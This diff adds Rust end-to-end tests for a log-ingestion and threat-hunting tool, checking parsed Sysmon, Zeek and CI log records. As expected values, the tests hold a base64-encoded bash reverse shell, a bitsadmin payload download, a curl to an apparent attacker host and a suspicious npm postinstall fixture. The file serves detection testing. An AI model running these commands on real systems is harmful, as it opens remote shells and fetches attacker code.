@@ -1,0 +1,357 @@
+//! End-to-end ingest tests on real logs (tests/data/corpus, see its README for origins): each
+//! file is ingested into a fresh store and specific fields of specific records are checked
+//! through a DataFusion query, as a hunt would see them.
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use arrow::array::RecordBatch;
+use arrow::util::display::{ArrayFormatter, FormatOptions};
+use spoor::core::ingest::{IngestOptions, IngestSummary, Quiet};
+use spoor::core::{Format, Store, ingest, session};
+
+fn corpus(rel: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/corpus").join(rel)
+}
+
+struct Ingested {
+    _dir: tempfile::TempDir,
+    store: Store,
+    summary: IngestSummary,
+}
+
+fn ingest_with(paths: &[PathBuf], options: IngestOptions) -> Ingested {
+    let dir = tempfile::tempdir().unwrap();
+    let store = Store::open(dir.path().join("store")).unwrap();
+    let summary = ingest(&store, paths, &options, &Quiet).unwrap();
+    for f in &summary.files {
+        assert_eq!(f.read, f.stored + f.skipped + f.rejected, "every record is accounted for in {}", f.path.display());
+    }
+    Ingested { _dir: dir, store, summary }
+}
+
+fn ingest_files(paths: &[PathBuf]) -> Ingested {
+    ingest_with(paths, IngestOptions::default())
+}
+
+/// Runs SQL over the store and renders every cell as text (nulls as `NULL`), row by row.
+fn query(store: &Store, sql: &str) -> Vec<Vec<String>> {
+    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+    runtime.block_on(async {
+        let ctx = session::context(store).await.unwrap();
+        let batches: Vec<RecordBatch> = ctx.sql(sql).await.unwrap().collect().await.unwrap();
+        let options = FormatOptions::default().with_null("NULL");
+        let mut rows = Vec::new();
+        for batch in batches {
+            let formatters: Vec<_> =
+                batch.columns().iter().map(|c| ArrayFormatter::try_new(c.as_ref(), &options).unwrap()).collect();
+            for row in 0..batch.num_rows() {
+                rows.push(formatters.iter().map(|f| f.value(row).to_string()).collect());
+            }
+        }
+        rows
+    })
+}
+
+fn one_row(store: &Store, sql: &str) -> Vec<String> {
+    let rows = query(store, sql);
+    assert_eq!(rows.len(), 1, "expected one row from {sql}, got {rows:?}");
+    rows.into_iter().next().unwrap()
+}
+
+#[test]
+fn sysmon_flat_json_from_mordor() {
+    let t = ingest_files(&[corpus("edr/mordor/cmd_bitsadmin_download_psh_script.json")]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, Some(Format::Sysmon));
+    assert_eq!(f.read, 424);
+    assert_eq!(f.rejected, 0);
+    assert_eq!(f.skip_reasons.get("sysmon 7 (image loaded): no table"), Some(&141));
+
+    let row = one_row(
+        &t.store,
+        r#"SELECT "@timestamp", "host.name", "user.name", "user.domain", "process.name", "process.parent.name",
+                  "process.command_line", "process.hash.sha256", "process.pid", "process.parent.entity_id",
+                  "event.code", "log.file.line", "spoor.format"
+           FROM process WHERE "process.name" = 'bitsadmin.exe' AND "event.code" = '1'"#,
+    );
+    assert_eq!(
+        row,
+        [
+            "2020-10-23T06:36:43.542Z",
+            "workstation5",
+            "wardog",
+            "WORKSTATION5",
+            "bitsadmin.exe",
+            "cmd.exe",
+            r"bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\Users\wardog\AppData\Local\Temp\bitsadmin1_flag.ps1",
+            "eaae8536d554d0e86d8540a8b34db2649bd884843f389495d0b6e91636c6cf54",
+            "9260",
+            "{39e4a257-79ed-5f92-6e17-000000000700}",
+            "1",
+            "118",
+            "sysmon",
+        ]
+    );
+
+    // Security 4688 is read too: hex pids, parent by name.
+    let row = one_row(
+        &t.store,
+        r#"SELECT "process.pid", "process.parent.pid", "process.parent.name" FROM process
+           WHERE "event.code" = '4688' AND "process.name" = 'bitsadmin.exe'"#,
+    );
+    assert_eq!(row, ["9260", "10044", "cmd.exe"]);
+
+    let row = one_row(
+        &t.store,
+        r#"SELECT "dns.question.name", "dns.answers", "dns.resolved_ip", "dns.response_code", "process.name", "log.file.line"
+           FROM dns WHERE "dns.question.name" = 'raw.githubusercontent.com'"#,
+    );
+    assert_eq!(row, ["raw.githubusercontent.com", "[github.map.fastly.net, 151.101.208.133]", "[151.101.208.133]", "NOERROR", "svchost.exe", "388"]);
+
+    let row = one_row(
+        &t.store,
+        r#"SELECT "destination.ip", "destination.port", "network.transport", "network.direction"
+           FROM network WHERE "destination.port" = 443 AND "destination.ip" = '151.101.208.133' LIMIT 1"#,
+    );
+    assert_eq!(row, ["151.101.208.133", "443", "tcp", "outbound"]);
+
+    let row = one_row(
+        &t.store,
+        r#"SELECT "registry.hive", "registry.key", "event.action" FROM registry
+           WHERE "registry.path" = 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\BITS' LIMIT 1"#,
+    );
+    assert_eq!(row, ["HKLM", r"SOFTWARE\Microsoft\Windows\CurrentVersion\BITS", "key_create"]);
+}
+
+#[test]
+fn sysmon_for_linux_in_sentinel_syslog_rows() {
+    let t = ingest_files(&[corpus("edr/mordor/sentinel_syslog_linux_sysmon_log4shell_jndi.json")]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, Some(Format::SysmonLinux));
+    assert_eq!((f.read, f.rejected), (93, 0));
+    let row = one_row(
+        &t.store,
+        r#"SELECT "host.name", "user.name", "process.name", "process.parent.name", "process.command_line", "log.file.line"
+           FROM process WHERE "process.command_line" LIKE '%base64,-d%'"#,
+    );
+    assert_eq!(
+        row,
+        [
+            "ubuntu5",
+            "tomcat",
+            "bash",
+            "java",
+            "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}",
+            "8",
+        ]
+    );
+    // The reverse shell's connection (EID 3) and its `0>&1` in XML with a bare ampersand.
+    let rows = query(&t.store, r#"SELECT "destination.port" FROM network WHERE "process.name" = 'bash' AND "destination.ip" = '192.168.2.6'"#);
+    assert!(rows.contains(&vec!["443".to_string()]), "{rows:?}");
+}
+
+#[test]
+fn zeek_tsv_and_json_of_the_same_traffic_agree() {
+    let t = ingest_files(&[corpus("dns/zeek/wrccdc2018_dns_head200.log")]);
+    let j = ingest_files(&[corpus("dns/zeek/wrccdc2018_dns_head200.json")]);
+    assert_eq!(t.summary.files[0].format, Some(Format::Zeek));
+    assert_eq!(j.summary.files[0].format, Some(Format::ZeekJson));
+    let sql = r#"SELECT "@timestamp", "event.id", "source.ip", "source.port", "destination.ip", "dns.id",
+                        "dns.question.name", "dns.question.type", "dns.response_code", "dns.answers", "dns.resolved_ip"
+                 FROM dns ORDER BY "@timestamp", "event.id""#;
+    let from_tsv = query(&t.store, sql);
+    assert_eq!(from_tsv.len(), 200);
+    assert_eq!(from_tsv, query(&j.store, sql));
+    assert_eq!(
+        from_tsv[0],
+        [
+            "2018-03-24T17:15:20.865716Z",
+            "CqKst53mF3det3eDV9",
+            "10.47.1.100",
+            "41772",
+            "10.0.0.100",
+            "36329",
+            "ise.wrccdc.org",
+            "A",
+            "NOERROR",
+            "[ise.wrccdc.cpp.edu, 134.71.3.16]",
+            "[134.71.3.16]",
+        ]
+    );
+}
+
+#[test]
+fn zeek_json_with_underscore_names_and_tsv_conn() {
+    let t = ingest_files(&[
+        corpus("dns/zeek/apt29_day1_SCRANTON_dns.json"),
+        corpus("dns/zeek/apt29_day1_SCRANTON_conn.json"),
+        corpus("dns/zeek/lsass_campaign01_metasploit_conn.log"),
+        corpus("dns/zeek/lsass_campaign01_metasploit_dns.log"),
+    ]);
+    let row = one_row(
+        &t.store,
+        r#"SELECT "dns.response_code", "source.ip" FROM dns WHERE "dns.question.name" = 'wpad.dmevals.local' ORDER BY "@timestamp" LIMIT 1"#,
+    );
+    assert_eq!(row, ["NXDOMAIN", "10.0.1.4"]);
+    let row = one_row(
+        &t.store,
+        r#"SELECT "network.protocol", "destination.port", "source.bytes", "destination.bytes", "event.duration"
+           FROM network WHERE "event.id" = 'CbD9Ha1JtdoSnfM4Mf'"#,
+    );
+    assert_eq!(row, ["krb,smb,gssapi", "445", "4060", "1681", "10706616878"]);
+    // The Meterpreter handler in the LSASS campaign.
+    let rows = query(&t.store, r#"SELECT count(*) FROM network WHERE "destination.ip" = '10.0.5.13' AND "destination.port" = 8080"#);
+    assert_ne!(rows[0][0], "0");
+    // Unset query (`-`) is stored as null, not as the text "-".
+    let rows = query(&t.store, r#"SELECT count(*) FROM dns WHERE "dns.question.name" = '-'"#);
+    assert_eq!(rows[0][0], "0");
+}
+
+#[test]
+fn npm_pnpm_and_yarn_output() {
+    let t = ingest_with(
+        &[
+            corpus("ci/npm-cli/npm11_ci_loglevel_http.log"),
+            corpus("ci/npm-cli/npm11_install_foreground_scripts.log"),
+            corpus("ci/npm-cli/pnpm9_install_append_only.log"),
+            corpus("ci/npm-cli/yarn1_install_verbose.log"),
+        ],
+        IngestOptions { format: Some(Format::CiLog), ..Default::default() },
+    );
+    let rows = query(
+        &t.store,
+        r#"SELECT "ci.job.id", "package.manager", "package.name", "package.version", "ci.script.stage", "process.command_line"
+           FROM ci WHERE "event.action" = 'lifecycle_script' ORDER BY "ci.job.id""#,
+    );
+    let expected = [
+        ["npm11_ci_loglevel_http", "npm", "esbuild", "0.25.0", "postinstall", "node install.js"],
+        ["npm11_install_foreground_scripts", "npm", "esbuild", "0.25.0", "postinstall", "node install.js"],
+        ["pnpm9_install_append_only", "pnpm", "esbuild", "0.25.0", "postinstall", "node install.js"],
+    ];
+    assert_eq!(rows, expected.map(|r| r.map(String::from).to_vec()).to_vec());
+    let row = one_row(
+        &t.store,
+        r#"SELECT "url.original", "log.file.line" FROM ci WHERE "event.action" = 'package_fetch' AND "package.name" = 'axios'"#,
+    );
+    assert_eq!(row, ["https://registry.example.invalid/axios/-/axios-1.14.0.tgz", "57"]);
+    let row = one_row(
+        &t.store,
+        r#"SELECT "package.name", "package.version", "process.command_line", "log.level" FROM ci
+           WHERE "event.action" = 'install_script_warning' AND "ci.job.id" = 'npm11_install_foreground_scripts'"#,
+    );
+    assert_eq!(row, ["esbuild", "0.25.0", "node install.js", "warning"]);
+    let installs = query(
+        &t.store,
+        r#"SELECT "package.manager", "package.version" FROM ci WHERE "event.action" = 'package_install' AND "package.name" = 'axios' ORDER BY 1"#,
+    );
+    assert_eq!(installs, [["pnpm", "1.14.0"], ["yarn", "1.14.0"]]);
+}
+
+#[test]
+fn github_actions_steps_and_timestamps() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("build_3.txt");
+    std::fs::write(
+        &log,
+        "2026-03-31T00:40:01.1234567Z ##[group]Run npm ci\n\
+         2026-03-31T00:40:01.2000000Z npm ci\n\
+         2026-03-31T00:40:02.0000000Z ##[endgroup]\n\
+         2026-03-31T00:40:09.0000000Z npm http fetch GET 200 https://registry.example.invalid/plain-crypto-js/-/plain-crypto-js-4.2.1.tgz 80ms (cache miss)\n\
+         2026-03-31T00:40:10.0000000Z > plain-crypto-js@4.2.1 postinstall\n\
+         2026-03-31T00:40:10.0000000Z > node setup.js\n\
+         2026-03-31T00:40:12.0000000Z ##[error]Process completed with exit code 1.\n",
+    )
+    .unwrap();
+    let t = ingest_with(&[log], IngestOptions { ci_job: Some("build#3".into()), ..Default::default() });
+    assert_eq!(t.summary.files[0].format, Some(Format::CiLog));
+    let rows = query(
+        &t.store,
+        r#"SELECT "@timestamp", "event.action", "ci.provider", "ci.job.id", "ci.step.name", "package.name", "process.command_line"
+           FROM ci ORDER BY "log.file.line""#,
+    );
+    let expected = [
+        ["2026-03-31T00:40:01.123456Z", "step_start", "github", "build#3", "Run npm ci", "NULL", "npm ci"],
+        ["2026-03-31T00:40:09Z", "package_fetch", "github", "build#3", "Run npm ci", "plain-crypto-js", "NULL"],
+        ["2026-03-31T00:40:10Z", "lifecycle_script", "github", "build#3", "Run npm ci", "plain-crypto-js", "node setup.js"],
+        ["2026-03-31T00:40:12Z", "error", "github", "build#3", "Run npm ci", "NULL", "NULL"],
+    ];
+    assert_eq!(rows, expected.map(|r| r.map(String::from).to_vec()).to_vec());
+}
+
+#[test]
+fn bad_records_are_rejected_with_file_line_and_reason() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("mixed.json");
+    let good = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"h1","UtcTime":"2026-03-31 00:41:00.000","Image":"/usr/bin/curl","CommandLine":"curl -s http://sfrclak.com:8000/x"}"#;
+    let mut file = std::fs::File::create(&path).unwrap();
+    writeln!(file, "{good}").unwrap(); // 1: stored
+    writeln!(file, "{{\"EventID\":1,\"Image\":").unwrap(); // 2: truncated JSON
+    file.write_all(b"{\"EventID\":1,\"Image\":\"\xff\xfe\"}\n").unwrap(); // 3: invalid UTF-8
+    writeln!(file, r#"{{"EventID":1,"Channel":"x","Image":"/bin/sh"}}"#).unwrap(); // 4: no time
+    writeln!(file, r#"{{"EventID":1,"Channel":"x","UtcTime":"1500-01-01 00:00:00","Image":"/bin/sh"}}"#).unwrap(); // 5: out of range
+    writeln!(file, "{}", "x".repeat(2000)).unwrap(); // 6: too long
+    writeln!(file, r#"{{"EventID":7,"Channel":"x","UtcTime":"2026-03-31 00:41:00"}}"#).unwrap(); // 7: skipped
+    writeln!(file, "{good}").unwrap(); // 8: stored
+    drop(file);
+
+    let t = ingest_with(&[path], IngestOptions { format: Some(Format::Sysmon), max_line_bytes: 1000, ..Default::default() });
+    let f = &t.summary.files[0];
+    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (8, 2, 1, 5));
+    let rejects = query(&t.store, r#"SELECT "log.file.line", "error.message" FROM _rejects ORDER BY "log.file.line""#);
+    let lines: Vec<&str> = rejects.iter().map(|r| r[0].as_str()).collect();
+    assert_eq!(lines, ["2", "3", "4", "5", "6"]);
+    assert!(rejects[0][1].starts_with("not valid JSON: EOF while parsing"), "{}", rejects[0][1]);
+    assert_eq!(rejects[1][1], "invalid UTF-8 at byte 23 of the line");
+    assert_eq!(rejects[2][1], "no event time (UtcTime, @timestamp or TimeCreated)");
+    assert_eq!(rejects[3][1], "no event time (UtcTime, @timestamp or TimeCreated)");
+    assert_eq!(rejects[4][1], "line is 2000 bytes, longer than the limit of 1000 (--max-line-bytes)");
+    let raw = one_row(&t.store, r#"SELECT "event.original", "log.file.path" FROM _rejects WHERE "log.file.line" = 2"#);
+    assert_eq!(raw[0], "{\"EventID\":1,\"Image\":");
+    assert!(raw[1].ends_with("mixed.json"));
+}
+
+#[test]
+fn truncated_gzip_keeps_the_records_before_the_cut() {
+    let dir = tempfile::tempdir().unwrap();
+    let source = std::fs::read(corpus("dns/zeek/lsass_campaign01_metasploit_dns.log")).unwrap();
+    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    encoder.write_all(&source).unwrap();
+    let compressed = encoder.finish().unwrap();
+
+    let whole = dir.path().join("dns.log.gz");
+    std::fs::write(&whole, &compressed).unwrap();
+    let t = ingest_files(&[whole]);
+    assert_eq!(t.summary.files[0].stored, 96, "a whole gzip file reads like the plain one");
+
+    let cut = dir.path().join("cut.log.gz");
+    std::fs::write(&cut, &compressed[..compressed.len() / 2]).unwrap();
+    let t = ingest_files(&[cut]);
+    let f = &t.summary.files[0];
+    assert!(f.stored > 10 && f.stored < 96, "stored {}", f.stored);
+    let error = f.error.as_deref().unwrap();
+    assert!(error.contains("cut.log.gz: input stopped after line"), "{error}");
+    assert_eq!(f.rejected, 1);
+}
+
+#[test]
+fn unknown_content_is_reported_not_guessed() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("notes.txt");
+    std::fs::write(&path, "dear diary\n").unwrap();
+    let t = ingest_files(&[path]);
+    let f = &t.summary.files[0];
+    assert_eq!(f.format, None);
+    assert!(f.error.as_deref().unwrap().contains("format not recognised from its content"));
+    assert!(t.summary.written.is_empty());
+}
+
+#[test]
+fn zstd_input_is_read() {
+    let dir = tempfile::tempdir().unwrap();
+    let source = std::fs::read(corpus("dns/zeek/apt29_day1_SCRANTON_dns.json")).unwrap();
+    let path = dir.path().join("dns.json.zst");
+    std::fs::write(&path, zstd::encode_all(&source[..], 3).unwrap()).unwrap();
+    let t = ingest_files(&[path]);
+    assert_eq!((t.summary.files[0].format, t.summary.files[0].stored), (Some(Format::ZeekJson), 32));
+}
